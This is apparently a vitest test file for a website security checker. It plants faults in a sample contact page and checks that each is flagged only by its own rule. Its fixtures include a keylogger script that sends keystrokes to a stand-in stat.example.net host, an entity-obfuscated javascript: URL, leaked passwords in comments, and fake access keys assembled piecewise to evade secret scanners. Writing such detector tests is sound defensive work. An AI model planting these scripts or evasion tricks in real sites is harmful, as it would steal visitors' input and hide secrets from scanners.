import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { openGarden, type PlantedSite } from '../../support/planted/planted-site.ts'

// Each planted fault is reported by its security rule and by no other rule.

let garden: Awaited<ReturnType<typeof openGarden>>
beforeAll(async () => {
  garden = await openGarden()
})
afterAll(() => garden.close())

const page = 'contact/index.html'

/** Adds HTML at the end of the main content of the contact page. */
const inMain =
  (html: string) =>
  ({ edit }: PlantedSite) =>
    edit(page, '</main>', `${html}</main>`)

const toScript = (script: string) => (site: PlantedSite) => {
  const file = /assets\/entry-client[\w-]+\.js/.exec(site.read('index.html'))?.[0] ?? 'none'
  site.write(file, site.read(file) + script)
}
const toSettings =
  (text: string) =>
  ({ manifest }: PlantedSite) =>
    manifest({ file: 'site.yaml', replace: 'embeds: {}', with: text })

// Assembled from parts, so that secret scanners do not report this file.
const privateKey = ['-----BEGIN', 'PRIVATE KEY-----'].join(' ')
const accessKey = `AKIA${'ABCDEFGH23456789'}`

const map = '{ map: { title: Map, url: "https://maps.example.net/x", height: 200, linkLabel: Open } }'

describe('only its own rule reports a fault', () => {
  test.each<[string, (site: PlantedSite) => void]>([
    [
      'third-party-stylesheet',
      ({ edit }) =>
        edit(page, '</title>', '</title><link rel="stylesheet" href="//fonts.example.net/css?family=Inter">'),
    ],
    [
      'data-url-large',
      inMain(
        `<img src="data:image/png;base64,${'iVBO'.repeat(2000)}" alt="A river in spring" width="9" height="9" loading="lazy">`,
      ),
    ],
    ['csp-missing', ({ edit }) => edit(page, /<meta http-equiv="Content-Security-Policy"[^>]*>/, '')],
    ['csp-weak', ({ edit }) => edit(page, /script-src 'self' '[^']+'/, "script-src 'self' 'unsafe-inline'")],
    ['csp-weak', ({ edit }) => edit(page, ";base-uri 'none'", '')],
    ['csp-weak', ({ edit }) => edit(page, "script-src 'self'", "script-src 'self' https:")],
    ['csp-inline-script', inMain('<script>document.title = "Hello"</script>')],
    ['csp-inline-style', inMain('<p style="color: red">Red</p>')],
    ['csp-inline-style', inMain('<style>p { color: red }</style>')],
    ['mixed-content', inMain('<img src=http://pictures.example/x.png width=64 height=36 alt="" loading=lazy>')],
    ['third-party-script', inMain('<script async src="//cdn.example.net/x.js"></script>')],
    ['third-party-picture', inMain('<video src="//cdn.example.net/x.mp4" controls></video>')],
    [
      'third-party-picture',
      inMain('<img height="1" width="1" style="display:none" src="https://pixel.example.net/tr?id=1&amp;noscript=1">'),
    ],
    [
      'third-party-script',
      ({ edit }) => edit(page, '</head>', '<script src="https://cdn.polyfill.io/v3/polyfill.min.js"></script></head>'),
    ],
    [
      'integrity-differs',
      ({ edit }) => edit(page, '<script type="module"', '<script type="module" integrity="sha384-b3Zlcg=="'),
    ],
    ['inline-handler', inMain('<p ONCLICK="go()">Press</p>')],
    ['unsafe-url', inMain('<form action="java&Tab;script:go()"></form>')],
    ['unsafe-url', inMain('<iframe src=" data:text/html,x" title="Box" height="200" loading="lazy"></iframe>')],
    ['private-host', inMain('<img src="file:///C:/draft.png" width="64" height="36" alt="" loading="lazy">')],
    ['secret-in-page', inMain(`<p>${privateKey}</p>`)],
    ['secret-in-file', toScript(`;"${accessKey}"`)],
    ['secret-in-file', ({ write }) => write('netlify.toml', `SECRET_KEY = "sk_${'live_'}${'a1'.repeat(12)}"`)],
    ['build-path', toScript(';"/home/anna/site/index.ts"')],
    ['script-harmful', toScript(';fetch("https://stat.example.net/p")')],
    ['script-harmful', toScript(';document.onkeydown=e=>{new Image().src="https://stat.example.net/p?k="+e.key}')],
    ['script-harmful', toScript(';m=document.createElement("meta");m.name="robots";m.content="noindex"')],
    ['leftover-file', ({ write }) => write('.env', 'A=1')],
    ['leftover-file', ({ write }) => write('assets/app.js.map', '{}')],
    ['leftover-file', ({ write }) => write('index.php', '<?php phpinfo();')],
    [
      'personal-data',
      ({ write }) => write('export/people-2026.csv', 'name,phone,door_code\nK. Jensen,541-555-0119,4471\n'),
    ],
    ['personal-data', ({ write }) => write('data/old-clients.xlsx', 'PK')],
    ['file-unused', ({ write }) => write('data/yards.csv', 'name,address,phone\nHolt,1 Main St,541-555-0119\n')],
    ['personal-data', ({ write }) => write('list.txt', 'a@post.example\nb@mail.example\nc@home.example\n')],
    ['comment-leftover', inMain('<!-- TODO: remove the old prices -->')],
    ['comment-leftover', inMain('<!-- the admin password is new -->')],
    ['comment-leftover', inMain('<!-- test copy, user: holt pass: Gorge!2025 -->')],
    ['form-insecure', inMain('<form action="http://forms.example/send"></form>')],
    ['form-insecure', inMain('<form action="https://forms.example/send"></form>')],
    ['form-insecure', inMain('<form action="/contact/" method="post"></form>')],
    [
      'security-txt-expired',
      ({ write }) =>
        write('.well-known/security.txt', 'Contact: mailto:us@gorgedrain.example\nExpires: 2020-01-01T00:00:00Z\n'),
    ],
    [
      'security-txt-expired',
      ({ write }) =>
        write('.well-known/security.txt', 'Contact: us@gorgedrain.example\nExpires: 2031-01-01T00:00:00Z\n'),
    ],
    [
      'security-txt-expired',
      ({ write }) =>
        write(
          '.well-known/security.txt',
          'Contact: mailto:us@gorgedrain.example\nExpires: 2031-01-01T00:00:00Z\nCanonical: https://acme.example/.well-known/security.txt\n',
        ),
    ],
    ['host-headers', toSettings('embeds: {}\nhosting: { hosts: [netlify] }')],
    [
      'host-headers',
      (site) => {
        const caching = '/assets/*\n  Cache-Control: public, max-age=31536000, immutable\n'
        site.write('_headers', `/*\n  X-Content-Type-Options: nosniff\n${caching}`)
        toSettings('embeds: {}\nhosting: { hosts: [netlify] }')(site)
      },
    ],
    [
      'host-headers',
      (site) => {
        const headers = ['Strict-Transport-Security: max-age=31536000', 'X-Content-Type-Options: nosniff']
        const more = ['Referrer-Policy: same-origin', 'Permissions-Policy: camera=()', 'Cache-Control: no-cache']
        const caching = '/assets/*\n  Cache-Control: public, max-age=31536000, immutable\n'
        const ofDrawings = "/*.svg\n  Content-Security-Policy: default-src 'none'\n"
        site.write('_headers', `/*\n  ${[...headers, ...more].join('\n  ')}\n${caching}${ofDrawings}`)
        toSettings('embeds: {}\nhosting: { hosts: [netlify] }')(site)
      },
    ],
    [
      'host-headers',
      (site) => {
        const block = (...headers: string[]) => `  header {\n    ${headers.join('\n    ')}\n  }\n}\n`
        const most = [
          'X-Content-Type-Options "nosniff"',
          'Referrer-Policy "same-origin"',
          'Permissions-Policy "camera=()"',
        ]
        const ofErrors =
          'Strict-Transport-Security "max-age=31536000"\n    Content-Security-Policy "default-src \'self\'"'
        site.write('Caddyfile', `route {\n${block(...most)}handle_errors {\n${block(ofErrors)}`)
        toSettings('embeds: {}\nhosting: { hosts: [caddy] }')(site)
      },
    ],
    ['frame-origin', inMain('<iframe src="https://maps.example.net/x"></iframe>')],
    [
      'frame-origin',
      ({ editAll }) => editAll('</footer>', '<iframe src="https://maps.example.net/x"></iframe></footer>'),
    ],
    [
      'frame-origin',
      inMain(
        '<iframe src="https://maps.example.net/x" title="Map" height="200" loading="lazy" sandbox=""></iframe><a href="https://www.example.net/">Open the map</a>',
      ),
    ],
    [
      'frame-without-link',
      (site) => {
        toSettings(`embeds: ${map.replace('map:', 'booking:')}`)(site)
        inMain(
          '<iframe src="https://maps.example.net/x" title="Map" height="200" loading="lazy" sandbox="allow-scripts allow-forms"></iframe><a href="https://maps.example.net/y">Open</a>',
        )(site)
      },
    ],
    [
      'frame-sandbox',
      (site) => {
        toSettings(`embeds: ${map}`)(site)
        inMain(
          '<iframe src="https://maps.example.net/x" title="Map" height="200" loading="lazy" sandbox="allow-scripts"></iframe><a href="https://maps.example.net/">Open the map</a>',
        )(site)
      },
    ],
    [
      'frame-sandbox',
      (site) => {
        toSettings(`embeds: ${map}`)(site)
        inMain(
          '<iframe src="https://maps.example.net/x" title="Map" height="200" loading="lazy"></iframe><a href="https://maps.example.net/">Open the map</a>',
        )(site)
      },
    ],
  ])('%s (%#)', async (code, fault) => {
    const { added } = await garden.plant(fault)
    expect(added.map(({ code: found }) => found)).toEqual([code])
  })
})

test('a finding does not contain the whole secret', async () => {
  const { added } = await garden.plant(inMain(`<p>${accessKey}</p>`))
  expect(added.map(({ code }) => code)).toEqual(['secret-in-page'])
  expect(JSON.stringify(added)).not.toContain(accessKey)
})

test('correct content that resembles a fault gives no finding', async () => {
  const { added } = await garden.plant((site) => {
    site.edit(page, "style-src 'self'", "style-src-attr 'unsafe-inline';style-src 'self'")
    site.write('.well-known/security.txt', 'Contact: mailto:us@gorgedrain.example\nExpires: 2031-01-01T00:00:00Z\n')
    inMain(
      [
        '<p style="color: red">Red</p>',
        '<form action="mailto:office@gorgedrain.example"></form><form action="/contact/"></form><form></form>',
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="1" height="1" alt="" loading="lazy">',
        '<p>javascript: is no address, AKIA no key, and sk_live_ alone none.</p>',
        '<a href="https://localhost.example/">Local news</a>',
        '<script type="text/plain">not run</script>',
      ].join(''),
    )(site)
    toScript(';"/home/";"https://example.com/home/anna/"')(site)
  })
  expect(added).toEqual([])
})
